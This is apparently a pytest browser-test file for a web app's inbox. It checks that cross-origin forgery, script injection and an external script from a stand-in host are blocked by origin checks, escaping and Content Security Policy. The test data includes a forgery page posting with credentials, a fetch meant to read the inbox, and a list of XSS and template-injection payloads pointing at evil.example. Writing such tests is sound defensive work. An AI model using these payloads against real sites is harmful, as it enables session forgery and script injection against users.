"""Another site in a real Chromium, open beside the desk in which somebody is signed in; and a stranger's words on every page."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest

from tests.community.inbox.inboxes import hear, said
from tests.desk.browsing import enter
from tests.desk.inbox.house_of import build, seen
from tests.desk.serving_desk import Served
from toolkit.community.inbox.conversation import Stage
from toolkit.community.replies.book import Wish
from toolkit.desk.audit import read_deeds
from toolkit.desk.house import House
from toolkit.desk.sessions import end_sessions
from toolkit.model import MessageKind

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

pytestmark = [pytest.mark.browser]

EVIL: Final = """<!doctype html><title>Prizes</title>
<iframe name="hidden"></iframe><iframe id="frame" src="DESK/inbox"></iframe><img src="DESK/inbox/NAME/stage?to=done">
<form id="send" method="post" action="DESK/inbox/NAME/stage" target="TARGET">
<input name="to" value="done"><input name="version" value="VERSION"><input name="csrf" value=""></form>
<form id="plain" method="post" action="DESK/inbox/NAME/stage" enctype="text/plain" target="hidden"><input name="to=done&x" value="y"></form>
"""
# Each way in which a page can have a browser send something to another origin.
WAYS: Final = {
    "form": "document.getElementById('send').submit()",
    "plain": "document.getElementById('plain').submit()",
    "fetch": "fetch('DESK/inbox/NAME/stage', {method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({to: 'done', version: 'VERSION'})}).catch(() => {})",
    "read": "fetch('DESK/inbox', {credentials: 'include'}).then(a => a.text()).then(t => { window.stolen = t }).catch(() => { window.stolen = '' })",
    "header": "fetch('DESK/inbox/NAME/stage', {method: 'POST', credentials: 'include', headers: {'x-csrf-token': 'x', 'hx-request': 'true'}, body: 'to=done'}).catch(() => {})",
    "beacon": "navigator.sendBeacon('DESK/inbox/NAME/stage', new URLSearchParams({to: 'done', version: 'VERSION'}))",
}


@pytest.fixture
def house(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> House:
    monkeypatch.setenv("LEITSTAND_LANG", "en")
    return build(tmp_path)


@pytest.fixture
def context(chromium: Browser, desk: Served) -> Iterator[BrowserContext]:
    """A browser in which Mai is signed in at the desk."""
    found = chromium.new_context(locale="en-GB")
    enter(found, desk, "mai")
    yield found
    found.close()


class Site(ThreadingHTTPServer):
    """Somebody else's site: one page for every address."""

    page = b""

    def __init__(self) -> None:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(site.page)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # the name is the base class's
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as found:
        thread = threading.Thread(target=found.serve_forever, daemon=True)
        thread.start()
        yield found
        found.shutdown()
        thread.join()


def refusals(house: House) -> set[str]:
    with house.book(read_only=True) as store:
        return {deed.outcome for deed in read_deeds(store) if deed.outcome.startswith("refused")}


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_another_site_changes_and_reads_nothing(host: str, context: BrowserContext, desk: Served, site: Site) -> None:
    """Forms, fetches, beacons, pictures and frames of another origin: same site with the cookie, or another without it.

    On the very same address with another port browsers do send the cookie; there the origin is what stops them.
    """
    conversation = seen(desk.house, "c1")
    for name, way in WAYS.items():
        page = context.new_page()

        def fill(text: str, target: str = "hidden") -> str:
            told = {"DESK": desk.url, "NAME": conversation.id, "VERSION": str(conversation.version), "TARGET": target}
            for sign, value in told.items():
                text = text.replace(sign, value)
            return text

        site.page = fill(EVIL).encode()
        page.goto(f"http://{host}:{site.server_port}/", wait_until="load")
        # `read` and `header` never come so far as to be answered: the browser asks first, by OPTIONS.
        asked = "GET" if name == "read" else "OPTIONS" if name == "header" else "POST"
        before = len([line for line in desk.log if f" {asked} /inbox" in line])
        page.evaluate(fill(way))
        if asked != "OPTIONS":
            page.wait_for_function("() => true")
            _wait_for(page, desk, asked, before)
        if name == "read":
            page.wait_for_function("() => window.stolen !== undefined")
            assert page.evaluate("window.stolen") == ""
        frame = page.frame_locator("#frame").locator("body")
        assert "Mai" not in (frame.inner_text() if frame.count() else "")
        page.close()
    assert seen(desk.house, "c1") == conversation
    if host == "127.0.0.1":
        assert "refused-origin" in refusals(desk.house)


def _wait_for(page: Page, desk: Served, method: str, before: int) -> None:
    """Until the desk has answered one more; at most ten seconds."""
    for _look in range(400):
        if len([line for line in desk.log if f" {method} /inbox" in line]) > before:
            return
        page.wait_for_timeout(25)
    raise AssertionError(f"no {method} came through: {desk.log[-5:]}")


HOSTILE: Final = (
    "<script>window.hurt=1</script>",
    '"><img src=x onerror=window.hurt=1>',
    "'><svg/onload=window.hurt=1>",
    "<a href=javascript:window.hurt=1 id=bait>press</a>",
    "{{7*7}}${7*7}{% debug %}",
    "</title></textarea></template></script><script>window.hurt=1</script>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<div hx-get=/logout hx-trigger=load hx-on:click=window.hurt=1>x</div>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
)


def test_a_strangers_words_are_text_on_every_page(context: BrowserContext, desk: Served) -> None:
    """Day sheet, inbox, conversation, replies, crisis, posts: nothing of it runs, nothing is even stopped by the policy."""
    house, hurt = desk.house, []
    with house.inbox() as inbox:
        messages = [
            said(
                f"x{number}", kind=MessageKind.MENTION, text=f"Splitter! {words}", name=words, subject=words,
                author=f"@x{number}@far.example", url="javascript:window.hurt=1",
            )
            for number, words in enumerate(HOSTILE)
        ]  # fmt: skip
        hear(inbox, *messages)
    for number, words in enumerate(HOSTILE):
        with house.replies() as replies:
            conversation = seen(house, f"x{number}")
            reply = replies.write(conversation, Wish(words, "jo", private=False), house.now())
            replies.hand_in(reply, "jo", house.now())
            replies.inbox.remark(conversation, words, "jo", house.now())
    page = context.new_page()
    page.on("pageerror", lambda error: hurt.append(str(error)))
    page.on("console", lambda told: hurt.append(told.text) if told.type in ("error", "warning") else None)
    page.on("request", lambda asked: hurt.append(asked.url) if not asked.url.startswith(desk.url) else None)
    names = [seen(house, f"x{number}").id for number in range(len(HOSTILE))]
    paths = ["/", "/inbox", "/replies", "/approvals", "/posts", "/crisis", *(f"/inbox/{name}" for name in names)]
    shown = ""
    for path in paths:
        page.goto(desk.url + path, wait_until="load")
        shown += page.locator("body").inner_text() + "".join(page.locator("textarea").all_inner_texts())
        assert page.evaluate("window.hurt") is None, path
        assert page.url == desk.url + path
        assert page.locator("#bait, base, form[action*=evil], [hx-trigger=load][hx-get='/logout']").count() == 0, path
        assert page.locator("a[href^='javascript'], a[href^='data']").count() == 0, path
        assert "49" not in page.title()
    assert hurt == []
    assert "<script>window.hurt=1</script>" in shown
    assert "{{7*7}}" in shown
    with house.inbox(read_only=True) as inbox:
        assert all(one.stage is not Stage.DONE for one in inbox.conversations(now=house.now()))


def test_the_policy_itself_stops_a_script(context: BrowserContext, desk: Served) -> None:
    """Were something let through some day, the browser would not run it: not inline, not evaluated, not from elsewhere."""
    page = context.new_page()
    page.goto(f"{desk.url}/inbox")
    told: list[str] = []
    page.on("console", lambda one: told.append(one.text))
    page.evaluate(
        "() => { const one = document.createElement('div'); one.innerHTML = '<img src=x onerror=window.hurt=1>';"
        " document.body.append(one); const two = document.createElement('script'); two.textContent = 'window.hurt=2';"
        " document.body.append(two); const three = document.createElement('script');"
        " three.src = 'https://evil.example/x.js'; document.body.append(three); }"
    )
    for _look in range(400):  # ten seconds at most: the browser says what it refused when it comes to it
        if sum("Content Security Policy" in one for one in told) >= 3:
            break
        page.wait_for_timeout(25)
    assert sum("Content Security Policy" in one for one in told) >= 3
    assert page.evaluate("window.hurt") is None


def test_an_open_page_says_when_its_session_is_over(context: BrowserContext, desk: Served) -> None:
    """Signed out elsewhere, the page tells it by itself, and leaves standing what was being typed."""
    page = context.new_page()
    page.clock.install()
    page.goto(f"{desk.url}/inbox/{seen(desk.house, 'c1').id}")
    page.locator("#reply-text").fill("Halb fertig")
    assert not page.locator("#signedout").is_visible()
    with desk.house.book() as store:
        assert end_sessions(store, "mai") == 1
    page.clock.run_for(11_000)
    page.wait_for_selector("#signedout:visible")
    assert page.locator("#reply-text").input_value() == "Halb fertig"
